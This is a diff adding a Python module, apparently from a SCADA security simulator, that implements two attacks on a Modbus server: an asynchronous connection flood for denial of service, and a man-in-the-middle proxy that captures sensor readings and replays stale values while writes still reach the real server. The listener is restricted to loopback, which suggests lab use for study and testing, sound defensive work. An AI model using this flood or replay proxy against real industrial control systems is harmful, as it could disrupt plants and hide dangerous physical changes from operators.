@@ -0,0 +1,111 @@
+# secure-sim/scada_net/attack_clients.py
+import struct
+import asyncio
+from collections import deque
+from scada_net.modbus import READ_INPUT_REGISTERS, frame, read_frame, check_loopback
+
+
+async def flood_connection(host, port, stop, pipeline=32):
+    """Send back-to-back level reads over one connection until stop is set; return the replies received
+
+    Requests go out pipeline at a time without waiting for each reply, the
+    way a flooding client keeps a server's queue full.
+    """
+    reader, writer = await asyncio.open_connection(host, port)
+    request = struct.pack('>BHH', READ_INPUT_REGISTERS, 0, 1)
+    batch = b''.join(frame(i, 1, request) for i in range(pipeline))
+    replies = 0
+    try:
+        while not stop.is_set():
+            writer.write(batch)
+            for _ in range(pipeline):
+                await read_frame(reader)
+            replies += pipeline
+    except (asyncio.IncompleteReadError, ConnectionError):
+        pass  # The server dropped us
+    finally:
+        writer.close()
+    return replies
+
+
+async def flood(host, port, connections, duration, pipeline=32):
+    """DoS flood: many connections reading as fast as the server answers; return total replies"""
+    stop = asyncio.Event()
+    tasks = [asyncio.ensure_future(flood_connection(host, port, stop, pipeline)) for _ in range(connections)]
+    await asyncio.sleep(duration)
+    stop.set()
+    return sum(await asyncio.gather(*tasks))
+
+
+class ReplayProxy:
+    """Man-in-the-middle between a SCADA client and the Modbus server that replays captured replies
+
+    While capturing it forwards everything and records the server's replies
+    to input register reads (the sensor values) in a bounded buffer. Once
+    replaying, it answers those reads itself by looping the captured
+    replies, so the client keeps seeing old levels while writes and other
+    requests still reach the real server.
+    """
+    def __init__(self, server_host, server_port, host='127.0.0.1', port=0, max_frames=3600):
+        check_loopback(host)
+        self.server_host = server_host
+        self.server_port = server_port
+        self.host = host
+        self.port = port
+        self.captured = {}  # Request PDU -> deque of reply PDUs
+        self.max_frames = max_frames  # Replies kept per distinct request
+        self.replaying = False
+        self.replay_positions = {}
+        self.server = None
+
+    def start_replay(self):
+        """Answer sensor reads from the capture instead of the server"""
+        self.replaying = True
+
+    def stop_replay(self):
+        """Go back to forwarding (and capturing)"""
+        self.replaying = False
+
+    def replayed_reply(self, pdu):
+        """Next captured reply for a request, or None if it was never seen"""
+        replies = self.captured.get(pdu)
+        if not replies:
+            return None
+        position = self.replay_positions.get(pdu, 0)
+        self.replay_positions[pdu] = (position + 1) % len(replies)
+        return replies[position]
+
+    async def handle_client(self, reader, writer):
+        """Relay one client connection through its own connection to the server"""
+        try:
+            server_reader, server_writer = await asyncio.open_connection(self.server_host, self.server_port)
+        except OSError:
+            writer.close()
+            return
+        try:
+            while True:
+                transaction, unit, pdu = await read_frame(reader)
+                is_sensor_read = pdu[0] == READ_INPUT_REGISTERS
+                reply = self.replayed_reply(pdu) if self.replaying and is_sensor_read else None
+                if reply is None:
+                    server_writer.write(frame(transaction, unit, pdu))
+                    _, _, reply = await read_frame(server_reader)
+                    if is_sensor_read and not self.replaying:
+                        self.captured.setdefault(pdu, deque(maxlen=self.max_frames)).append(reply)
+                writer.write(frame(transaction, unit, reply))
+                await writer.drain()
+        except (asyncio.IncompleteReadError, ConnectionError):
+            pass
+        finally:
+            server_writer.close()
+            writer.close()
+
+    async def start(self):
+        """Start listening on the current event loop"""
+        self.server = await asyncio.start_server(self.handle_client, self.host, self.port)
+        self.port = self.server.sockets[0].getsockname()[1]
+        return self.server
+
+    def close(self):
+        if self.server is not None:
+            self.server.close()